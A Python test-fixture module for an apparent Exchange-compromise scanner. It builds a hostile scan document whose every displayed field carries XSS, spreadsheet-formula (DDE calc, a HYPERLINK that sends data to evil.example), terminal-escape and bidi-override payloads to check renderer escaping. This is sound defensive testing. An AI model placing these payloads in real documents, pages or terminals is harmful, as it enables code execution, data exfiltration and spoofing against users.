"""Canned result documents for the renderer tests, and one written entirely by an attacker.

``documents/`` holds three saved documents: a clean server (patched during the logs, exposed
before they begin), a compromised one (ProxyLogon, web shell, LSASS dump, with a gap in the IIS
logs and a file cut short), and one attacked without success (ProxyNotShell/OWASSRF refused,
IPv6 attacker, internal scanner). ``hostile_document`` puts XSS, spreadsheet formula, terminal
escape and direction-override payloads into every string field a renderer shows.
"""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

from exhunt.document import ScanDocument

HERE = Path(__file__).parent
DOCUMENTS = HERE / "documents"
GOLDEN = HERE / "golden"
NAMES = ("clean", "compromised", "attempted")
FORMATS = {
    "text": "txt",
    "json": "json",
    "csv": "csv",
    "timesketch": "jsonl",
    "html": "html",
    "stix": "stix.json",
}

XSS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(3)><svg><script>alert(4)</script></svg>",
    "</title></style></textarea><iframe src=javascript:alert(5)>",
    '<a href="javascript:alert(6)">click</a>',
    "' onmouseover='alert(7)' x='",
    "<![CDATA[<x>]]><!--<style>-->",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '  =HYPERLINK("http://evil.example/?"&A1)',
    "\uff1d1+1",
)
TERMINAL = ("\x1b[2J\x1b]0;owned\x07", "\x9b31mcsi", "\x1b[31mred", "\rFAKE LINE", "\x00nul")
BIDI = ("\u202egpj.exe", "\u2066isolate\u2069", "\u200f\u061c\u200e", "a\u2028b\u2029c")
PAYLOADS = XSS + FORMULAS + TERMINAL + BIDI
ALL = " ".join(PAYLOADS)
"""Every payload in one string."""

UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]"
)
"""Characters that must not reach a terminal or an editor raw (design: report/escape.py)."""


def load(name: str) -> ScanDocument:
    return ScanDocument.from_json((DOCUMENTS / f"{name}.json").read_bytes())


def hostile_document() -> ScanDocument:
    """A document whose every attacker-reachable string is a payload; valid in every field."""
    start = datetime(2021, 3, 3, 6, 0, tzinfo=UTC)
    findings = [_finding(n, payload, start + timedelta(minutes=n)) for n, payload in _each()]
    shell = f"C:\\inetpub\\wwwroot\\aspnet_client\\{XSS[0]}{BIDI[0]}.aspx"
    findings[0]["indicators"]["paths"] = [shell, f"/owa/auth/{XSS[1]}.aspx"]
    findings[0]["indicators"]["sha256"] = ["a" * 64, XSS[2]]
    findings[0]["id"] = f"F1{XSS[0]}"
    timeline = [
        {
            "time": f["first_seen"],
            "source": "iis.w3c",
            "summary": f"POST {f['indicators']['urls'][0]} from {f['indicators']['ips'][0]}",
            "finding_ids": [f["id"]],
            "path": f["evidence"][0]["path"],
            "line": f["evidence"][0]["line"],
        }
        for f in findings
    ]
    data = {
        "schema_version": 1,
        "tool": {"name": "exhunt", "version": "0.1.0", "rules_version": XSS[0]},
        "evidence": {"path": f"evidence/{ALL}", "kind": "directory", "host": f"EXCH{ALL}"},
        "exchange": {
            "build": f"15.1.2106.2{XSS[1]}",
            "product": f"Exchange Server 2016{XSS[3]}",
            "cu": FORMULAS[0],
            "install_path": f"C:\\{TERMINAL[0]}\\",
            "build_history": [{"build": XSS[0], "source": FORMULAS[1]}],
            "vulnerable_to": ["CVE-2021-26855", XSS[0]],
            "exposure": [
                {
                    "cve": XSS[0],
                    "campaign": FORMULAS[2],
                    "fixed_by": f"15.1.2106.13 {XSS[1]}",
                    "fix_released": "2021-03-02T00:00:00Z",
                    "exposed_at_collection": True,
                    "before_logs": True,
                }
            ],
            "mitigations": [XSS[4]],
        },
        "verdict": {
            "status": "compromised",
            "reasons": list(PAYLOADS),
            "first_malicious": "2021-03-03T06:01:00Z",
            "last_malicious": "2021-03-03T07:00:00Z",
        },
        "findings": findings,
        "timeline": timeline,
        "coverage": {
            "artifacts": [
                {
                    "type": "iis.w3c",
                    "files": 1,
                    "records": 10,
                    "first": "2021-03-03T00:00:00Z",
                    "last": "2021-03-03T23:00:00Z",
                },
                {"type": f"x.{XSS[0]}", "files": 1, "records": 1},
            ],
            "gaps": [
                {
                    "type": f"iis.w3c {XSS[3]}",
                    "from": "2021-03-03T08:00:00Z",
                    "to": "2021-03-03T12:00:00Z",
                    "reason": ALL,
                    "path": FORMULAS[3],
                }
            ],
            "skipped": list(PAYLOADS),
        },
        "errors": [{"component": XSS[0], "path": FORMULAS[0], "line": 3, "message": ALL}],
    }
    return ScanDocument.model_validate(data)


def _each() -> list[tuple[int, str]]:
    return list(enumerate(PAYLOADS, 1))


def _finding(n: int, payload: str, when: datetime) -> dict[str, object]:
    stamp = when.isoformat().replace("+00:00", "Z")
    path = f"C/inetpub/logs/LogFiles/W3SVC1/u_ex{payload}.log"
    return {
        "id": f"F{n}",
        "rule": f"exhunt.{payload}",
        "rules": [payload],
        "title": f"Finding {payload}",
        "description": f"Line one {payload}\nline two {payload}",
        "severity": ("critical", "high", "medium", "low", "info")[n % 5],
        "category": ("webshell", "exploitation", "attempt", "post-exploitation")[n % 4],
        "cves": [payload],
        "attack": ["T1190", payload],
        "first_seen": stamp,
        "last_seen": stamp,
        "count": 1,
        "evidence": [
            {
                "path": path,
                "windows_path": path.replace("/", "\\").replace("C\\", "C:\\", 1),
                "line": n,
                "time": stamp,
                "excerpt": f"2021-03-03 POST /owa/auth/x.aspx {payload} 203.0.113.{n} {payload}",
                "artifact": "iis.w3c",
                "rule": payload,
            }
        ],
        "indicators": {
            "ips": [f"203.0.113.{n}", payload],
            "user_agents": [payload, f"Mozilla/5.0 {payload}"],
            "urls": [f"/owa/auth/x.aspx?{payload}"],
            "paths": [f"C:\\inetpub\\{payload}.aspx"],
            "sha256": [],
            "accounts": [f"CORP\\{payload}"],
        },
    }


def hostile_json() -> str:
    return json.dumps(hostile_document().to_dict())
